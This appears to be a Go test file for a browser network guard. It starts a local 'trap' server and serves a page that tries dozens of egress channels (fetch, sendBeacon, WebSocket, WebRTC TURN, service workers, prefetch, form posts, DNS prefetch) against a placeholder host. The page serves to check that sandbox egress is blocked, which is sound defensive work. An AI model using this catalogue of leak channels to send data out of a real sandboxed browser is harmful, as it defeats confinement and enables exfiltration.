package browser_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/errand-run/errand/shared/netguard"
)

// trap is a port that knows whoever comes near: requests by the name that they bear, connections, datagrams.
type trap struct {
	addr      string // host:port, of TCP and UDP
	conns     atomic.Int64
	datagrams atomic.Int64
	mu        sync.Mutex
	paths     map[string]int
}

func setTrap(t testing.TB, host string) *trap {
	t.Helper()
	tr := &trap{paths: map[string]int{}}
	srv := httptest.NewUnstartedServer(tr)
	_ = srv.Listener.Close()
	var err error
	if srv.Listener, err = net.Listen("tcp", host+":0"); err != nil {
		t.Fatal(err)
	}
	tr.addr = srv.Listener.Addr().String()
	srv.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			tr.conns.Add(1)
		}
	}
	srv.Start()
	t.Cleanup(srv.Close)
	packets, err := net.ListenPacket("udp", tr.addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = packets.Close() })
	go func() {
		for b := make([]byte, 1500); ; tr.datagrams.Add(1) {
			if _, _, err := packets.ReadFrom(b); err != nil {
				return
			}
		}
	}()
	return tr
}

// ServeHTTP notes the request and gives every page leave to read the answer.
func (tr *trap) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	tr.mu.Lock()
	tr.paths[strings.Trim(r.URL.Path, "/")]++
	tr.mu.Unlock()
	w.Header().Set("Access-Control-Allow-Origin", "*")
	fmt.Fprint(w, "trapped")
}

func (tr *trap) caught(path string) bool {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return tr.paths[path] > 0
}

func domains(t testing.TB, hosts ...string) netguard.Domains {
	t.Helper()
	d, err := netguard.ParseDomains(hosts)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// waysOut are what a page can do to send something to TRAP, each under a path that names it.
const waysOut = `<!doctype html><title>Ways out</title>
<link rel=icon href="http://TRAP/favicon"><link rel=stylesheet href="http://TRAP/stylesheet"><link rel=preload as=image href="http://TRAP/preload">
<link rel=prefetch href="http://TRAP/prefetch"><link rel=preconnect href="http://TRAP"><link rel=dns-prefetch href="//leak.invalid">
<link rel=modulepreload href="http://TRAP/modulepreload">
<style>@font-face { font-family: f; src: url(http://TRAP/font) } p { font-family: f; background: url(http://TRAP/background) }</style>
<p>text</p><img src="http://TRAP/image"><script src="http://TRAP/script"></script><iframe src="http://TRAP/iframe"></iframe>
<video src="http://TRAP/video"></video><object data="http://TRAP/object"></object><embed src="http://TRAP/embed">
<iframe name=f></iframe><form method=post target=f action="http://TRAP/form"><input name=q></form>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=http://TRAP/refresh'>"></iframe>
<iframe src="/redirect"></iframe>
<a id=ping href="#" ping="http://TRAP/ping">ping</a>
<iframe srcdoc="<a id=d download href='http://TRAP/download'>d</a><script>d.click()</script>"></iframe>
<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["http://TRAP/speculation"], "eagerness": "immediate"}]}</script>
<script>
fetch('http://TRAP/fetch').catch(() => {});
fetch('http://TRAP/keepalive', {keepalive: true, method: 'POST', body: 'x'}).catch(() => {});
const x = new XMLHttpRequest(); x.open('GET', 'http://TRAP/xhr'); x.send();
navigator.sendBeacon('http://TRAP/beacon', 'x');
new WebSocket('ws://TRAP/websocket');
new EventSource('http://TRAP/eventsource');
document.forms[0].submit(); ping.click();
window.open('http://TRAP/window');
new Worker('/worker.js');
navigator.serviceWorker.register('/sw.js');
try { new WebTransport('https://TRAP/webtransport') } catch {}
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:TRAP'}, {urls: 'turn:TRAP', username: 'u', credential: 'c'}, {urls: 'turn:TRAP?transport=tcp', username: 'u', credential: 'c'}]});
peer.createDataChannel('d'); peer.createOffer().then((o) => peer.setLocalDescription(o));
</script>`

// leaks serves waysOut and what belongs to it. Its host is localhost, where service workers are allowed.
func leaks(t testing.TB, tr *trap) string {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, strings.ReplaceAll(waysOut, "TRAP", tr.addr))
	})
	mux.Handle("/redirect", http.RedirectHandler("http://"+tr.addr+"/redirect", http.StatusFound))
	mux.HandleFunc("/worker.js", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, "fetch('http://%s/worker').catch(() => {}); importScripts('http://%[1]s/import')", tr.addr)
	})
	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, "fetch('http://%s/serviceworker').catch(() => {})", tr.addr)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
}
